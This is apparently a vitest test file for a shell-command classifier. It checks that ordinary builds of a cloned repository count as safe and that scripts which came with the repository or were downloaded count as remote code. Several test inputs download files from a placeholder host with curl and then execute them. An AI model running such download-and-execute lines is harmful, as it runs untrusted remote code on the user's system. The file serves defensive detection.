import { describe, expect, it } from 'vitest';
import { effectsOf } from './reading.js';

function runsForeignCode(line: string): boolean {
  return effectsOf(line).some((effect) => effect.startsWith('remote-code'));
}

const CLONE = 'git clone https://github.com/a/b.git && cd b';

describe('building what was cloned', () => {
  it.each([
    './configure && make',
    './autogen.sh && ./configure',
    './gradlew build',
    './mvnw package',
    'docker compose up',
    'make',
    'npm install && npm test',
    'pip install -e .',
    'rake',
    'tox',
  ])('runs the build of the project: %s', (build) => {
    expect(runsForeignCode(`${CLONE} && ${build}`)).toBe(false);
  });

  it.each([
    './install.sh',
    'sh setup.sh',
    'python setup.py install',
    'source env.sh',
    'curl -o configure https://x.example/c && ./configure',
    'curl -so docker-compose.yml https://x.example/c && docker compose up',
    'curl https://x.example/a.tgz | tar xz && ./configure',
  ])('is not running any script that came along: %s', (build) => {
    expect(runsForeignCode(`${CLONE} && ${build}`)).toBe(true);
  });

  it.each([
    'curl -L https://x.example/y.tgz | tar xz && cd y && ./configure',
    'curl -o gradlew https://x.example/g && ./gradlew',
    'curl -so x.sh https://x.example/y && bash x.sh',
  ])('is not running a download: %s', (line) => {
    expect(runsForeignCode(line)).toBe(true);
  });
});
